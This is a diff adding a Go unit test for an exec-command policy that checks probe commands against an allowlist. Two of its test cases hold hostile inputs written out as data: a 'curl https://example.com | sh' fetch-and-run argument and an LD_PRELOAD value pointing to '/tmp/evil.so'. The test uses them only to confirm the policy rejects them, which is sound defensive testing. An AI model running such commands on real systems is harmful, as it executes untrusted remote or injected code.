@@ -0,0 +1,85 @@
+// SPDX-FileCopyrightText: 2025 Deutsche Telekom IT GmbH
+//
+// SPDX-License-Identifier: Apache-2.0
+
+package exec
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestPolicy_Allows(t *testing.T) {
+	tests := []struct {
+		name    string
+		policy  Policy
+		config  *Config
+		wantErr bool
+	}{
+		{
+			name:    "no exec check",
+			policy:  Policy{},
+			config:  nil,
+			wantErr: false,
+		},
+		{
+			name:    "not enabled",
+			policy:  Policy{Commands: []AllowedCommand{{Command: "true"}}},
+			config:  &Config{Targets: []Target{{Name: "probe", Command: "true"}}},
+			wantErr: true,
+		},
+		{
+			name:    "allowed command",
+			policy:  Policy{Enabled: true, Commands: []AllowedCommand{{Command: "/usr/bin/probe"}, {Command: "true"}}},
+			config:  &Config{Targets: []Target{{Name: "probe", Command: "true"}}},
+			wantErr: false,
+		},
+		{
+			name:    "command not allowed",
+			policy:  Policy{Enabled: true, Commands: []AllowedCommand{{Command: "true"}}},
+			config:  &Config{Targets: []Target{{Name: "probe", Command: "true"}, {Name: "shell", Command: "sh"}}},
+			wantErr: true,
+		},
+		{
+			name:    "allowed command with args",
+			policy:  Policy{Enabled: true, Commands: []AllowedCommand{{Command: "/usr/bin/probe", Args: []string{"--path", "/data"}}}},
+			config:  &Config{Targets: []Target{{Name: "probe", Command: "/usr/bin/probe", Args: []string{"--path", "/data"}}}},
+			wantErr: false,
+		},
+		{
+			name:    "allowed interpreter with other args",
+			policy:  Policy{Enabled: true, Commands: []AllowedCommand{{Command: "sh", Args: []string{"/usr/local/bin/probe.sh"}}}},
+			config:  &Config{Targets: []Target{{Name: "shell", Command: "sh", Args: []string{"-c", "curl https://example.com | sh"}}}},
+			wantErr: true,
+		},
+		{
+			name:    "allowed command with additional args",
+			policy:  Policy{Enabled: true, Commands: []AllowedCommand{{Command: "/usr/bin/probe"}}},
+			config:  &Config{Targets: []Target{{Name: "probe", Command: "/usr/bin/probe", Args: []string{"--exec", "sh"}}}},
+			wantErr: true,
+		},
+		{
+			name:    "allowed command with env",
+			policy:  Policy{Enabled: true, Commands: []AllowedCommand{{Command: "true"}}},
+			config:  &Config{Targets: []Target{{Name: "probe", Command: "true", Env: map[string]string{"LD_PRELOAD": "/tmp/evil.so"}}}},
+			wantErr: true,
+		},
+		{
+			name:    "no commands allowed",
+			policy:  Policy{Enabled: true},
+			config:  &Config{Targets: []Target{{Name: "probe", Command: "true"}}},
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := tt.policy.Allows(CheckName, tt.config)
+			if tt.wantErr {
+				assert.Error(t, err)
+				return
+			}
+			assert.NoError(t, err)
+		})
+	}
+}